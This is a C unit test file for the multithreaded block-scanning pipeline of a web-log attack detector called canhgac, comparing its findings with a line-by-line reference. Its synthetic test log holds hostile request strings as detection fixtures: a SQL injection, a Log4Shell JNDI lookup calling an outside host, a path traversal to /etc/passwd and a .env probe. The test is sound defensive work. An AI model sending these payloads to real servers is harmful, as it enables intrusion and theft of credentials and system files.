/*
 * The block pipeline of `canhgac scan` (detect/weblog_scan): whatever the number
 * of threads and the block size (down to blocks far shorter than a line, so
 * every line crosses a block boundary), the findings, the line count and the
 * malformed lines with their numbers are exactly those of feeding the lines one
 * by one through weblog_parse_line and weblog_detect_feed. Also .gz input, a
 * pipe written in small pieces, lines longer than WEBLOG_LINE_MAX (counted once,
 * as too long, even when they span several blocks), empty lines, a last line
 * without its newline, and several inputs in a row (line numbers restart).
 */
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <zlib.h>

#include <cmocka.h>

#include "core/config.h"
#include "detect/weblog_detect.h"
#include "detect/weblog_parse.h"
#include "detect/weblog_scan.h"

static struct weblog_sigs *sigs;
static struct config cfg;
static char *text; /* the test log */
static size_t text_len;

struct buf {
	char *p;
	size_t n, cap;
};

static void buf_add(struct buf *b, const char *s, size_t n)
{
	if (b->n + n + 1 > b->cap) {
		b->cap = (b->n + n + 1) * 2;
		b->p = realloc(b->p, b->cap);
		assert_non_null(b->p);
	}
	memcpy(b->p + b->n, s, n);
	b->n += n;
	b->p[b->n] = '\0';
}

static void buf_str(struct buf *b, const char *s)
{
	buf_add(b, s, strlen(s));
}

static void buf_printf(struct buf *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void buf_printf(struct buf *b, const char *fmt, ...)
{
	char line[1024];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(line, sizeof line, fmt, ap);
	va_end(ap);
	assert_true(n > 0 && (size_t)n < sizeof line);
	buf_add(b, line, (size_t)n);
}

#define LINE "%s - - [10/Oct/2024:13:%02d:%02d +0700] \"%s %s HTTP/1.1\" %d 512 \"-\" \"%s\"\n"

/* A log with every rule, ordinary traffic, and the awkward lines. */
static void text_build(void)
{
	struct buf b = {0};
	for (int i = 0; i < 600; i++) {
		int m = i / 60, s = i % 60;
		buf_printf(&b, LINE, "14.160.1.1", m, s, "GET", "/tin-tuc", 200, "Mozilla/5.0 (X11)");
		if (i % 20 == 0)
			buf_printf(&b, LINE, "113.161.2.2", m, s, "GET", "/tim-kiem?q=select+a+product", 200,
				   "Mozilla/5.0 (iPhone)");
		if (i < 25)
			buf_printf(&b, LINE, "45.148.10.1", m, s, "GET", i % 2 ? "/admin" : "/old", 404, "curl/8.5.0");
		if (i >= 100 && i < 112)
			buf_printf(&b, LINE, "185.220.1.3", m, s, "POST", "/dang-nhap", 401, "python-requests/2.31");
		if (i == 200)
			buf_printf(&b, LINE, "103.77.1.4", m, s, "GET", "/tin-tuc?id=1%20UNION%20SELECT%20password--",
				   200, "Mozilla/5.0");
		if (i == 210)
			buf_printf(&b, LINE, "2001:db8::5", m, s, "GET", "/", 200, "${jndi:ldap://198.51.100.7/a}");
		if (i == 220)
			buf_printf(&b, LINE, "45.148.10.2", m, s, "GET", "/.env", 404, "Mozilla/5.0");
		if (i == 230)
			buf_str(&b, "this is not a log line\n");
		if (i == 240)
			buf_str(&b, "\n\n"); /* empty lines: numbered, not counted */
		if (i == 250 || i == 400) {
			/* longer than WEBLOG_LINE_MAX: counted once, never split */
			buf_printf(&b, "45.148.99.%d - - [10/Oct/2024:13:%02d:%02d +0700] \"GET /", i, m, s);
			for (int k = 0; k < WEBLOG_LINE_MAX + 500; k++)
				buf_add(&b, "A", 1);
			buf_str(&b, " HTTP/1.1\" 200 5 \"-\" \"x\"\n");
		}
		if (i == 300)
			buf_str(&b, "203.0.113.9 - - [10/Oct/2024:13:05:00 +0700] \"GET /\xff\xfe HTTP/1.1\" 200 5 \"-\" "
				    "\"\x01\"\n");
	}
	/* the last line has no newline */
	buf_printf(&b, LINE, "89.248.1.6", 9, 59, "GET", "/tai-ve?f=../../etc/passwd", 200, "Mozilla/5.0");
	b.n--;
	b.p[b.n] = '\0';
	text = b.p;
	text_len = b.n;
}

static int setup(void **state)
{
	(void)state;
	char why[256];
	config_defaults(&cfg);
	text_build();
	return weblog_sigs_load(NULL, NULL, &sigs, why, sizeof why);
}

static int teardown(void **state)
{
	(void)state;
	weblog_sigs_free(sigs);
	free(text);
	return 0;
}

/* Findings and counts as one comparable string. */
static char *summary(struct weblog_detect *d, uint64_t lines, uint64_t malformed, int n_shown,
		     char shown[][300])
{
	struct buf b = {0};
	buf_printf(&b, "lines=%llu malformed=%llu\n", (unsigned long long)lines, (unsigned long long)malformed);
	for (int i = 0; i < n_shown; i++)
		buf_printf(&b, "at %s\n", shown[i]);
	size_t n;
	const struct weblog_finding *f = weblog_detect_findings(d, &n);
	for (size_t i = 0; i < n; i++) {
		buf_printf(&b, "%s %s %s %lld %lld %llu %d\n", weblog_rule_name(f[i].rule), f[i].category, f[i].ip,
			   (long long)f[i].first, (long long)f[i].last, (unsigned long long)f[i].count,
			   f[i].allowlisted);
		for (int s = 0; s < f[i].n_samples; s++) {
			buf_add(&b, "  ", 2);
			buf_add(&b, f[i].sample[s], strlen(f[i].sample[s]));
			buf_add(&b, "\n", 1);
		}
	}
	return b.p;
}

/* The reference: one line at a time through the public parse and feed calls. */
static char *reference(const char *name)
{
	struct weblog_detect *d = NULL;
	struct weblog_parser *p = NULL;
	char why[256];
	assert_int_equal(weblog_detect_new(&cfg, sigs, &d, why, sizeof why), 0);
	assert_int_equal(weblog_parser_new(WEBLOG_INPUT_TEXT, NULL, &p, why, sizeof why), 0);
	char *work = malloc(WEBLOG_LINE_MAX + 2);
	uint64_t lines = 0, malformed = 0, lineno = 0;
	char shown[WEBLOG_SCAN_MALFORMED_SHOWN][300];
	int n_shown = 0;
	const char *c = text, *end = text + text_len;
	while (c < end) {
		const char *nl = memchr(c, '\n', (size_t)(end - c));
		size_t len = (size_t)((nl ? nl : end) - c);
		lineno++;
		if (len) {
			struct weblog_entry e;
			lines++;
			bool ok = false;
			if (len <= WEBLOG_LINE_MAX) {
				memcpy(work, c, len);
				work[len] = '\0';
				ok = weblog_parse_line(p, work, len, &e) == 0;
				if (ok)
					assert_int_equal(weblog_detect_feed(d, &e, c, len), 0);
			}
			if (!ok) {
				if (n_shown < WEBLOG_SCAN_MALFORMED_SHOWN)
					snprintf(shown[n_shown++], sizeof shown[0], "%s:%llu%s", name,
						 (unsigned long long)lineno, len > WEBLOG_LINE_MAX ? " (too long)" : "");
				malformed++;
			}
		}
		c = nl ? nl + 1 : end;
	}
	char *s = summary(d, lines, malformed, n_shown, shown);
	free(work);
	weblog_parser_free(p);
	weblog_detect_free(d);
	return s;
}

/* Runs the pipeline over `fd` (closed by the scan), `copies` times in a row
 * when copies > 1 (the same text opened again by `reopen`). */
static char *run(int threads, size_t block, int (*open_input)(void), int copies)
{
	struct weblog_detect *d = NULL;
	struct weblog_scan *sc = NULL;
	char why[256];
	assert_int_equal(weblog_detect_new(&cfg, sigs, &d, why, sizeof why), 0);
	struct weblog_scan_opts o = {.input = WEBLOG_INPUT_TEXT, .threads = threads, .block_size = block};
	assert_int_equal(weblog_scan_new(&o, d, sigs, &sc, why, sizeof why), 0);
	for (int i = 0; i < copies; i++)
		assert_int_equal(weblog_scan_fd(sc, open_input(), "t.log"), 0);
	struct weblog_scan_stats st;
	weblog_scan_stats_get(sc, &st);
	char *s = summary(d, st.lines, st.malformed, st.n_shown, st.malformed_at);
	weblog_scan_free(sc);
	weblog_detect_free(d);
	return s;
}

static char tmp_plain[64], tmp_gz[64];

static int open_plain(void)
{
	int fd = open(tmp_plain, O_RDONLY);
	assert_true(fd >= 0);
	return fd;
}

static int open_gz(void)
{
	int fd = open(tmp_gz, O_RDONLY);
	assert_true(fd >= 0);
	return fd;
}

static void *pipe_writer(void *arg)
{
	int fd = *(int *)arg;
	for (size_t off = 0; off < text_len;) {
		size_t n = text_len - off < 777 ? text_len - off : 777;
		ssize_t w = write(fd, text + off, n);
		if (w <= 0)
			break;
		off += (size_t)w;
	}
	close(fd);
	return NULL;
}

static pthread_t writer;
static int writer_fd;

static int open_pipe(void)
{
	int p[2];
	assert_int_equal(pipe(p), 0);
	writer_fd = p[1];
	assert_int_equal(pthread_create(&writer, NULL, pipe_writer, &writer_fd), 0);
	return p[0];
}

static void files_write(void)
{
	snprintf(tmp_plain, sizeof tmp_plain, "/tmp/canhgac-test-scan-XXXXXX");
	int fd = mkstemp(tmp_plain);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, text_len), (ssize_t)text_len);
	close(fd);
	snprintf(tmp_gz, sizeof tmp_gz, "/tmp/canhgac-test-scan-gz-XXXXXX");
	fd = mkstemp(tmp_gz);
	assert_true(fd >= 0);
	gzFile gz = gzdopen(fd, "wb");
	assert_non_null(gz);
	assert_int_equal(gzwrite(gz, text, (unsigned)text_len), (int)text_len);
	assert_int_equal(gzclose(gz), Z_OK);
}

static void test_same_findings_any_threads_and_blocks(void **state)
{
	(void)state;
	files_write();
	char *ref = reference("t.log");
	/* the text has what the test is about */
	assert_non_null(strstr(ref, "scanner-404 "));
	assert_non_null(strstr(ref, "brute-force "));
	assert_non_null(strstr(ref, "injection sqli 103.77.1.4"));
	assert_non_null(strstr(ref, "injection log4shell 2001:db8::5"));
	assert_non_null(strstr(ref, "injection traversal 89.248.1.6")); /* the line without a newline */
	assert_non_null(strstr(ref, "scanner-probe config 45.148.10.2"));
	assert_non_null(strstr(ref, " (too long)"));
	assert_non_null(strstr(ref, "malformed=3\n")); /* the binary line parses */
	const struct {
		int threads;
		size_t block;
	} cases[] = {{1, 0}, {2, 0}, {1, 97}, {2, 97}, {3, 1}, {4, 4096}, {2, 20000}, {8, 333}};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char *got = run(cases[i].threads, cases[i].block, open_plain, 1);
		if (strcmp(got, ref))
			fail_msg("threads %d block %zu:\n%s\n--- expected:\n%s", cases[i].threads, cases[i].block,
				 got, ref);
		free(got);
	}
	free(ref);
}

static void test_gz_and_pipe(void **state)
{
	(void)state;
	files_write();
	char *ref = reference("t.log");
	char *got = run(2, 1000, open_gz, 1);
	assert_string_equal(got, ref);
	free(got);
	got = run(2, 5000, open_pipe, 1);
	pthread_join(writer, NULL);
	assert_string_equal(got, ref);
	free(got);
	got = run(1, 0, open_pipe, 1);
	pthread_join(writer, NULL);
	assert_string_equal(got, ref);
	free(got);
	free(ref);
	unlink(tmp_plain);
	unlink(tmp_gz);
}

static void test_inputs_in_a_row(void **state)
{
	(void)state;
	files_write();
	/* two copies of the text: line numbers restart, counts double */
	char *one = run(2, 64, open_plain, 1), *two = run(2, 64, open_plain, 2), *two1 = run(1, 0, open_plain, 2);
	assert_string_equal(two, two1);
	assert_non_null(strstr(one, "lines="));
	unsigned long long l1, l2;
	assert_int_equal(sscanf(one, "lines=%llu", &l1), 1);
	assert_int_equal(sscanf(two, "lines=%llu", &l2), 1);
	assert_int_equal(l2, 2 * l1);
	/* the first malformed lines of both copies carry the same numbers */
	const char *a = strstr(two, "at t.log:");
	assert_non_null(a);
	free(one);
	free(two);
	free(two1);
	unlink(tmp_plain);
	unlink(tmp_gz);
}

static void test_unreadable_gzip(void **state)
{
	(void)state;
	struct weblog_detect *d = NULL;
	struct weblog_scan *sc = NULL;
	char why[256];
	assert_int_equal(weblog_detect_new(&cfg, sigs, &d, why, sizeof why), 0);
	struct weblog_scan_opts o = {.input = WEBLOG_INPUT_TEXT, .threads = 2, .block_size = 100};
	assert_int_equal(weblog_scan_new(&o, d, sigs, &sc, why, sizeof why), 0);
	/* a gzip header followed by garbage: an error, not a crash */
	char bad[] = "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03garbage that is not deflate at all";
	char path[] = "/tmp/canhgac-test-scan-bad-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, bad, sizeof bad - 1), (ssize_t)(sizeof bad - 1));
	lseek(fd, 0, SEEK_SET);
	assert_int_equal(weblog_scan_fd(sc, fd, "bad.gz"), WEBLOG_SCAN_EIO);
	struct weblog_scan_stats st;
	weblog_scan_stats_get(sc, &st);
	assert_non_null(strstr(st.why, "bad.gz"));
	unlink(path);
	/* a bad log_format is refused when the scanner is made */
	struct weblog_scan *sc2 = NULL;
	o.log_format = "$request without an address";
	assert_int_equal(weblog_scan_new(&o, d, sigs, &sc2, why, sizeof why), WEBLOG_SCAN_EFORMAT);
	assert_null(sc2);
	weblog_scan_free(sc);
	weblog_detect_free(d);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_same_findings_any_threads_and_blocks),
		cmocka_unit_test(test_gz_and_pipe),
		cmocka_unit_test(test_inputs_in_a_row),
		cmocka_unit_test(test_unreadable_gzip),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
